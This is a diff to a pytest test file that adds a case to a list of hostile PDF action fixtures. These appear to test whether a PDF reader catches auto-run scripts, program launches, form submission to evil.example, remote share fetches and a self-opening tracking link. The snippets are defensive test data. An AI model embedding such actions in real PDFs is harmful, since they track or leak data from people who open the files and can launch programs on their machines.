@@ -349,6 +349,9 @@ def pdf_reading(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch)
         pytest.param("/OpenAction 5 0 R ", (JS,), id="a script when opened"),
         pytest.param("/Names << /JavaScript 5 0 R >> ", ("<< /Names [(a) 6 0 R] >>", JS), id="document scripts"),
         pytest.param("/OpenAction << /S /Launch /F (cmd.exe) >> ", (), id="launching a program"),
+        pytest.param(
+            "/OpenAction 5 0 R ", ("<< /S /URI /URI (https://evil.example/track) >>",), id="a link opened by itself"
+        ),
         pytest.param("/AA << /WC << /S /SubmitForm /F (https://evil.example) >> >> ", (), id="a form sent on closing"),
         pytest.param(
             "/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >> ", (), id="another file"
